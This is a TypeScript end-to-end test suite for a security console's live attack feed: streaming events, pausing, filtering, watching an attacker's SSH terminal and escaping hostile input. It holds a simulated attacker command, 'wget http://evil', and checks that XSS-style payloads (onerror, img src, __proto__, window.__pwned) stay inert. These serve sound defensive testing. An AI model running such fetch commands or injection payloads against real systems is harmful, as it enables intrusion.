/** The stream of what happens: an attack as it appears, held, filtered, watched into, and honest about what did not come. */
import type { Browser, Locator, Page, WebSocketRoute } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
import { summaryOf } from '@netsentinel/contracts/incident';
import { startApi, type ApiHarness } from '@netsentinel/testkit/api-harness';
import { drawnAt, launchBrowser } from '@netsentinel/testkit/browser';
import { hostileIncident, HOSTILE_TEXTS, sampleBlock, sampleIncident } from '@netsentinel/testkit/sample-incidents';
import { sampleAnomaly, visitEvent } from '@netsentinel/testkit/sample-live';
import { CONSOLE_ROOT, signedIn } from './pages.ts';

let browser: Browser;
let h: ApiHarness;
let page: Page;
let complaints: string[];
let channels: { readonly page: WebSocketRoute; readonly server: WebSocketRoute }[];

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());
beforeEach(async () => {
  h = await startApi({ consoleRoot: CONSOLE_ROOT });
  ({ page, complaints } = await signedIn(browser, h, await h.setUp()));
  channels = [];
  await page.routeWebSocket(/\/live\//, (ws) => {
    channels.push({ page: ws, server: ws.connectToServer() });
  });
  await page.goto(`${h.url}/live/`);
  await page.getByText('Nothing happens right now.').waitFor();
  // Figures come once the rooms are joined, as those that tell of attacks are.
  await page.getByRole('img', { name: /^Events a second: 42 now/ }).waitFor();
});
afterEach(async () => {
  await page.context().close();
  await h.close();
});

const news = (): Locator => page.getByTestId('news');
const row = (text: string): Locator => news().filter({ hasText: text });
const visit = (id: string, what: 'connect' | 'disconnect' = 'connect', address = '198.51.100.7'): void =>
  h.api.live.event(visitEvent(id, what, { address }));

it('teaches how to attack, and shows the attack as it happens', async () => {
  await page.getByText('ssh -p 2222 root@127.0.0.1').waitFor();
  const incident = sampleIncident('i1', Date.now(), { title: 'Somebody broke in', status: 'open' });
  visit('ssh~a');
  await row('SSH: somebody came to ssh').waitFor();
  h.api.live.incident(summaryOf(incident));
  h.api.live.anomaly(sampleAnomaly('x', { actor: '198.51.100.9' }));
  h.api.live.action(sampleBlock('a', incident, Date.now()));
  visit('ssh~a', 'disconnect');
  await row('they left ssh').waitFor();
  expect(await page.evaluate('[...document.querySelectorAll(".live-row")].map((row) => row.dataset.kind)')).toEqual([
    'session',
    'action',
    'anomaly',
    'incident',
    'session',
  ]);
  await page.getByRole('button', { name: 'Actions' }).click();
  await page.keyboard.press('Tab');
  await page.getByLabel('Filter').fill('broke in');
  await expect.poll(() => news().count()).toBe(1);
  expect(page.url()).toContain('off=event%2Caction&text=broke+in');
  await page.getByLabel('Filter').fill('no such words');
  await page.getByText('5 others are hidden').waitFor();
  await page.getByRole('button', { name: 'Show everything' }).click();
  await expect.poll(() => news().count()).toBe(5);
  await page.getByRole('link', { name: 'Somebody broke in' }).click();
  await page.waitForURL('**/incident/?id=i1');
  expect(complaints.filter((complaint) => !complaint.includes('404'))).toEqual([]);
});

it('stands still at the space bar, and loses nothing meanwhile', async () => {
  visit('ssh~a');
  await row('somebody came').waitFor();
  await page.keyboard.press(' ');
  await page.getByText('Paused. Nothing has come since.').waitFor();
  visit('ssh~a', 'disconnect');
  visit('ssh~b');
  await page.getByText('Paused: 2 waiting.').waitFor();
  expect(await news().count()).toBe(1);
  await page.keyboard.press(' ');
  await expect.poll(() => news().count()).toBe(3);
  await page.keyboard.press('/');
  await page.keyboard.type('198.51.100.7 left');
  await expect.poll(() => news().count()).toBe(1);
  expect(complaints).toEqual([]);
});

it('shows the terminal of a visit that goes on', async () => {
  visit('ssh~a');
  const recording = await h.blobs.openRecording('ssh~a');
  const lines = (...texts: string[]): Buffer =>
    Buffer.from(texts.map((text) => `${JSON.stringify([1, 'o', text])}\n`).join(''));
  const first = Buffer.concat([Buffer.from('{"version":2,"width":80,"height":24}\n'), lines('root@srv1:~# ')]);
  await recording.append(first);
  await page.getByRole('button', { name: 'Watch the terminal of 198.51.100.7' }).click();
  await page.getByTestId('live-terminal').getByText('root@srv1').waitFor();
  const drawn = drawnAt(page, 'wget http://evil');
  const more = lines('wget http://evil');
  await recording.append(more);
  h.api.live.terminal('ssh~a', first.length, more);
  await drawn;
  expect(page.url()).toContain('watch=ssh%7Ea');
  visit('ssh~a', 'disconnect');
  await page.getByText('over', { exact: true }).waitFor();
  await page.keyboard.press('Escape');
  await page.getByTestId('live-terminal').waitFor({ state: 'detached' });
  await recording.close();
  expect(complaints).toEqual([]);
});

it('says what so much happened of that it was not sent', async () => {
  for (let n = 0; n < 60; n++) visit(`ssh~${n}`);
  await row('visits were not sent here').waitFor();
  const told = await row('visits were not sent here').textContent();
  const shown = await row('somebody came').count();
  expect(told).toContain(`${60 - shown} visits`);
  expect(complaints).toEqual([]);
});

it('says that the connection was gone', async () => {
  visit('ssh~a');
  await row('somebody came').waitFor();
  const channel = channels.at(-1)!;
  await Promise.all([channel.server.close(), channel.page.close()]);
  h.api.live.incident(summaryOf(sampleIncident('i1', Date.now(), { title: 'Meanwhile' })));
  await row('The connection was gone for').waitFor();
  await row('Meanwhile').waitFor();
  expect(complaints).toEqual([]);
});

it('shows whatever attackers wrote as text', async () => {
  for (const [n, text] of HOSTILE_TEXTS.entries()) {
    const incident = hostileIncident(`i${n}`, text, Date.now());
    h.api.live.event(visitEvent(text.slice(0, 200), 'connect', { address: text, type: text }));
    h.api.live.incident(summaryOf(incident));
    h.api.live.action(sampleBlock(`a${n}`, incident, Date.now(), { target: text, reason: text }));
  }
  h.api.live.anomaly(sampleAnomaly('x', { summary: HOSTILE_TEXTS.join(' '), actor: HOSTILE_TEXTS[1]! }));
  await row('onerror').first().waitFor();
  await page.getByLabel('Filter').fill('__proto__');
  await expect.poll(() => news().count()).toBeGreaterThan(2);
  expect(await page.evaluate('[window.__pwned, document.documentElement.scrollWidth - window.innerWidth]')).toEqual([
    undefined,
    0,
  ]);
  expect(await page.locator('main img[src="x"], main script').count()).toBe(0);
  expect(complaints).toEqual([]);
});

it('leads from page to page by two keys, and lists the keys of each', async () => {
  await page.keyboard.press('?');
  await page.getByRole('dialog', { name: 'Keys' }).getByText('pause, and go on').waitFor();
  await page.getByRole('dialog', { name: 'Keys' }).getByText('Incidents').waitFor();
  await page.keyboard.press('Escape');
  await page.keyboard.press('g');
  await page.keyboard.press('t');
  await page.getByRole('heading', { level: 1, name: 'Audit' }).waitFor();
  await page.keyboard.press('?');
  await page.getByRole('dialog', { name: 'Keys' }).getByText('these keys').waitFor();
  expect(await page.getByText('pause, and go on').count()).toBe(0);
  await page.keyboard.press('Escape');
  await page.keyboard.press('g');
  await page.keyboard.press('l');
  await page.getByRole('heading', { level: 1, name: 'Live' }).waitFor();
  expect(complaints).toEqual([]);
});
